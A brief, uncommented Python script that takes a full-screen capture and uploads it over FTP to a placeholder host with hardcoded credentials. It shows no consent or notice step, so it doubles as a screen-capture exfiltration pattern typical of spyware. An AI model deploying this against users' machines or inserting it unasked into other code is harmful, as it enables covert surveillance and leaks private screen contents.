from ftplib import FTP

from PIL import ImageGrab

picture = ImageGrab.grab()
picture.save("/tmp/shot.png")
with FTP("files.example.invalid", "user", "word") as ftp, open("/tmp/shot.png", "rb") as file:
    ftp.storbinary("STOR shot.png", file)
